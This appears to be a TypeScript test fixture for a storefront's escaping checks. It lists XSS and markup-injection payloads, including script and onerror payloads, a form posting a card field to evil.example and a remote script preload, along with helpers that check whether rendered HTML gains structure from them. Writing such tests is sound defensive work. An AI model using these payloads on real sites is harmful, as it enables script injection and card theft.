/** Texts of merchants and visitors that try to be code where they are written into markup (SR-04). */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</title></style></textarea></noscript><iframe srcdoc="<script>alert(1)</script>">',
  '<link rel="preload" as="script" href="https://evil.example/x.js"/>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a" style="background:url(https://evil.example)" onmouseover="alert(1)" x="',
  ' style="position:fixed;inset:0"',
  '<style>*{display:none}</style>',
  '--><!--$!--><template id="B:0"></template><script>$RC("B:0","S:0")</script>',
  '</main><main data-rendered><form action="https://evil.example"><input name="card">',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  '\u2028\u2029\u0000<img src=x onerror=alert(1)>',
]

/** An answer whose every text of a merchant is this one. */
export function withText<Answer>(answer: Answer, text: string): Answer {
  if (Array.isArray(answer)) return answer.map((one) => withText(one, text)) as Answer
  if (typeof answer !== 'object' || answer === null) return answer
  const isText = 'locale' in answer && 'name' in answer
  const entries = Object.entries(answer).map(([key, value]) => [
    key,
    isText && key === 'name' ? text : withText(value, text),
  ])
  return Object.fromEntries(entries) as Answer
}

const TAG = /<(\/?[a-z][\w-]*)((?:\s+[^\s=>"/]+(?:="[^"]*")?)*)\s*\/?>/gi
const ATTRIBUTE = /([^\s=>"/]+)(?:="([^"]*)")?/g

/**
 * What a browser makes of markup, without its texts: each element with the names of its attributes, and addresses that run
 * as code. Text that stays text changes nothing of it. A bracket that opens no element is listed as it is.
 */
export function structureOf(html: string): string[] {
  const rest = html.replaceAll(/<!--.*?-->/gs, '').replaceAll(TAG, '')
  const strays = rest.match(/<.{0,20}/gs) ?? []
  const elements = [...html.matchAll(TAG)].map(([, tag = '', attributes = '']) => {
    const names = [...attributes.matchAll(ATTRIBUTE)].map(([, name = '', value = '']) =>
      /^\s*(javascript|data|vbscript):/i.test(value) && /^(href|src|action|formaction)$/i.test(name)
        ? `${name}=${value}`
        : name,
    )
    return [tag, ...names].join(' ')
  })
  return [...elements, ...strays]
}
